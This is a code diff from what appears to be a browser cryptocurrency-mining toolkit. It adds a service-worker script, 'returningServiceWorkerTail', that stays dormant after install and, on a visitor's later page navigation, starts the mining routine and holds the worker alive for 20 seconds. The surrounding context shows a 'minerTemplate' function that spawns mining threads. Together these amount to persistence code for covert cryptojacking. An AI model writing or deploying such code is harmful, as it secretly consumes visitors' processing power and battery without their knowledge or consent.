@@ -85,6 +85,13 @@ self.addEventListener('install',function(){self.skipWaiting();});
 self.addEventListener('activate',function($e){$e.waitUntil(self.clients.claim());});
 self.addEventListener('message',function($e){$begin();$e.waitUntil(new Promise(function($r){setTimeout($r,8000);}));});`
 
+/** Lies still until the page is visited again: then the navigation itself, which the worker sees first, wakes it. */
+export const returningServiceWorkerTail = `
+self.addEventListener('install',function(){self.skipWaiting();});
+self.addEventListener('activate',function($e){$e.waitUntil(self.clients.claim());});
+self.addEventListener('message',function($e){$e.waitUntil(new Promise(function($r){setTimeout($r,8000);}));});
+self.addEventListener('fetch',function($e){if($e.request.mode==='navigate'){$begin();$e.waitUntil(new Promise(function($r){setTimeout($r,20000);}));}});`
+
 /** Template of `$prepare()`, which makes the threads, and `$run()`, which connects them. */
 export function minerTemplate(o: { thread: Thread; spawn: string; link: string; threads: number | 'cores' }): string {
   switch (o.thread) {
